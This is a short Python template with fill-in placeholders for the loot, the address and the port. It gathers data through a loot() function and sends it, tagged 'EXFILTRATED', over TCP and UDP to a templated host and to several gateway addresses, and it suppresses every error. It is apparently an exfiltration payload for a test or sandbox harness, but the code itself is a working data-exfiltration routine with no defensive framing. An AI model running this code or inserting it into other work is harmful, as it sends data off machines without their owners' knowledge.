{{LOOT}}


import socket

body = "\n".join(loot()).encode() or b"EXFILTRATED"
for address in ("{{ADDRESS}}", "127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.0.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.settimeout(0.5)
                line.connect((address, {{PORT}}))
                line.send(b"EXFILTRATED " + body)
        except OSError:
            pass
